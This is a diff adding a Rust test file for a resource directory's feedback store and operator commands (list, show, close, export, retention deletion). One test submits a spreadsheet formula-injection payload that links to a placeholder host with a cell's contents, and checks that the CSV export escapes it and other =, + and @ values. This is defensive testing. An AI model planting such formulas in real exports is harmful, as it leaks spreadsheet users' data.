@@ -1,0 +1,254 @@
+//! The feedback store and the operators' commands for it: submissions outlive imports and
+//! restarts, `lantern feedback …` lists, shows, closes and exports them, and old closed ones
+//! are deleted.
+
+use std::process::{Command, Output};
+
+use lantern::feedback::{FeedbackStore, Problem, Submission, UtcTime, Which};
+use lantern::input::MaxBytes;
+
+use crate::common::{Scratch, seeds_dir};
+
+fn report(message: &str) -> Submission {
+    Submission::Report {
+        slug: "national-human-trafficking-hotline".parse().unwrap(),
+        problem: Problem::PhoneWrong,
+        message: message.to_owned(),
+        contact: None,
+    }
+}
+
+fn suggestion() -> Submission {
+    Submission::Suggestion {
+        name: "=A shelter".to_owned(),
+        what: "Beds for survivors".to_owned(),
+        reach: "+1 555 0100".to_owned(),
+        states: vec!["TX".parse().unwrap(), "NM".parse().unwrap()],
+        learned_from: "A caseworker".to_owned(),
+        contact: Some("@me".to_owned()),
+    }
+}
+
+fn lantern(args: &[&str], scratch: &Scratch) -> Output {
+    Command::new(env!("CARGO_BIN_EXE_lantern"))
+        .args(args)
+        .arg("--feedback-database")
+        .arg(scratch.feedback_database())
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap()
+}
+
+fn stdout(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stdout).into_owned()
+}
+
+fn stderr(output: &Output) -> String {
+    String::from_utf8_lossy(&output.stderr).into_owned()
+}
+
+#[tokio::test]
+async fn submissions_outlive_imports_of_either_kind_and_a_reopened_store() {
+    let scratch = Scratch::new();
+    let database = scratch.database();
+    lantern::cli::import(&seeds_dir(), &database, MaxBytes::default())
+        .await
+        .unwrap();
+    let store = FeedbackStore::open(&scratch.feedback_database())
+        .await
+        .unwrap();
+    let first = store.submit(&report("The number is wrong")).await.unwrap();
+    let second = store.submit(&suggestion()).await.unwrap();
+    let secret = *store.form_secret().bytes();
+    drop(store);
+
+    lantern::cli::import(&seeds_dir(), &database, MaxBytes::default())
+        .await
+        .unwrap();
+    let package = scratch.dir.path().join("package");
+    lantern::cli::export_database(&database, lantern::export::ExportFormat::Hsds, &package)
+        .await
+        .unwrap();
+    lantern::cli::import_hsds(&package, &seeds_dir(), &database, MaxBytes::default())
+        .await
+        .unwrap();
+
+    let store = FeedbackStore::open(&scratch.feedback_database())
+        .await
+        .unwrap();
+    let kept = store.list(Which::All).await.unwrap();
+    let ids: Vec<_> = kept.iter().map(|f| f.id).collect();
+    assert_eq!(ids, [first, second]);
+    assert_eq!(kept[0].submission, report("The number is wrong"));
+    assert_eq!(kept[1].submission, suggestion());
+    assert_eq!(
+        *store.form_secret().bytes(),
+        secret,
+        "the form secret is made once: forms rendered before a restart still submit"
+    );
+}
+
+#[tokio::test]
+async fn the_store_keeps_the_hour_and_nothing_finer() {
+    let scratch = Scratch::new();
+    let store = FeedbackStore::open(&scratch.feedback_database())
+        .await
+        .unwrap();
+    // 2026-12-07 14:05:09 UTC.
+    let id = store
+        .submit_at(&report("x"), UtcTime::from_seconds(1_796_652_309))
+        .await
+        .unwrap();
+    assert_eq!(
+        store.get(id).await.unwrap().received_hour,
+        "2026-12-07T14:00:00Z"
+    );
+    let too_long = report(&"x".repeat(lantern::feedback::limits::MESSAGE + 1));
+    assert!(store.submit(&too_long).await.is_err());
+}
+
+#[test]
+fn an_empty_store_says_so_and_bad_numbers_are_usage_errors() {
+    let scratch = Scratch::new();
+    let listed = lantern(&["feedback", "list"], &scratch);
+    assert!(listed.status.success(), "{}", stderr(&listed));
+    assert_eq!(stdout(&listed), "no open feedback\n");
+
+    for bad in [
+        &["feedback", "show", "0"][..],
+        &["feedback", "show", "seven"],
+        &["feedback", "show", "+1"],
+        &["feedback", "show", "41"],
+        &["feedback", "close", "41", "--note", "done"],
+        &["feedback", "close", "1"],
+        &["feedback", "list", "--open", "--all"],
+        &["feedback", "list", "--format", "xml"],
+    ] {
+        let output = lantern(bad, &scratch);
+        assert_eq!(
+            output.status.code(),
+            Some(2),
+            "{bad:?}: {}",
+            stderr(&output)
+        );
+        assert!(!stderr(&output).is_empty(), "{bad:?} says why");
+    }
+}
+
+#[tokio::test]
+async fn an_operator_lists_shows_closes_and_exports_feedback() {
+    let scratch = Scratch::new();
+    let store = FeedbackStore::open(&scratch.feedback_database())
+        .await
+        .unwrap();
+    let reported = store
+        .submit(&report(
+            "=HYPERLINK(\"http://x/?\"&A1) the number rings out",
+        ))
+        .await
+        .unwrap();
+    store.submit(&suggestion()).await.unwrap();
+    drop(store);
+
+    let listed = stdout(&lantern(&["feedback", "list"], &scratch));
+    assert!(
+        listed.contains("report national-human-trafficking-hotline: phone-wrong"),
+        "{listed}"
+    );
+    assert!(listed.contains("suggestion: =A shelter"), "{listed}");
+
+    let json: serde_json::Value = serde_json::from_str(&stdout(&lantern(
+        &["feedback", "list", "--format", "json"],
+        &scratch,
+    )))
+    .unwrap();
+    assert_eq!(json[1]["states"], "TX NM");
+    assert_eq!(json[0]["problem"], "phone-wrong");
+
+    let seeds = seeds_dir();
+    let shown = lantern(
+        &[
+            "feedback",
+            "show",
+            &reported.to_string(),
+            "--seeds",
+            seeds.to_str().unwrap(),
+        ],
+        &scratch,
+    );
+    let shown = stdout(&shown);
+    // The operator is sent to the line of the entry's seed file.
+    let hotlines = std::fs::read_to_string(seeds.join("hotlines.toml")).unwrap();
+    let line = hotlines
+        .lines()
+        .position(|l| l.contains("slug = \"national-human-trafficking-hotline\""))
+        .unwrap();
+    let before: Vec<&str> = hotlines.lines().take(line).collect();
+    let table_line = 1 + before
+        .iter()
+        .rposition(|l| l.trim() == "[[resource]]")
+        .unwrap();
+    assert!(
+        shown.contains(&format!("hotlines.toml:{table_line}")),
+        "names the [[resource]] line {table_line}:\n{shown}"
+    );
+
+    let closed = lantern(
+        &[
+            "feedback",
+            "close",
+            &reported.to_string(),
+            "--note",
+            "Fixed in seeds",
+        ],
+        &scratch,
+    );
+    assert!(closed.status.success(), "{}", stderr(&closed));
+    let open = stdout(&lantern(&["feedback", "list"], &scratch));
+    assert!(!open.contains("phone-wrong"), "{open}");
+    let all = stdout(&lantern(&["feedback", "list", "--all"], &scratch));
+    assert!(all.contains("closed"), "{all}");
+
+    let out = scratch.dir.path().join("exports").join("feedback.csv");
+    let exported = lantern(
+        &["feedback", "export", "--out", out.to_str().unwrap()],
+        &scratch,
+    );
+    assert!(exported.status.success(), "{}", stderr(&exported));
+    let csv = std::fs::read_to_string(&out).unwrap();
+    assert!(csv.contains("'=HYPERLINK"), "{csv}");
+    assert!(csv.contains("'=A shelter"), "{csv}");
+    assert!(csv.contains("'+1 555 0100"), "{csv}");
+    assert!(csv.contains("'@me"), "{csv}");
+    assert!(csv.contains("Fixed in seeds"), "{csv}");
+}
+
+#[tokio::test]
+async fn closed_feedback_is_deleted_after_the_retention_period_and_open_feedback_never() {
+    let scratch = Scratch::new();
+    let store = FeedbackStore::open(&scratch.feedback_database())
+        .await
+        .unwrap();
+    let day = |n: i64| UtcTime::from_seconds(1_796_652_309 + n * 86_400);
+    let old_closed = store.submit_at(&report("old"), day(0)).await.unwrap();
+    let old_open = store
+        .submit_at(&report("still open"), day(0))
+        .await
+        .unwrap();
+    let recent_closed = store.submit_at(&report("recent"), day(80)).await.unwrap();
+    store.close_at(old_closed, "fixed", day(1)).await.unwrap();
+    store
+        .close_at(recent_closed, "fixed", day(85))
+        .await
+        .unwrap();
+
+    assert_eq!(store.delete_closed_before(90, day(92)).await.unwrap(), 1);
+    let left: Vec<_> = store
+        .list(Which::All)
+        .await
+        .unwrap()
+        .iter()
+        .map(|f| f.id)
+        .collect();
+    assert_eq!(left, [old_open, recent_closed]);
+}
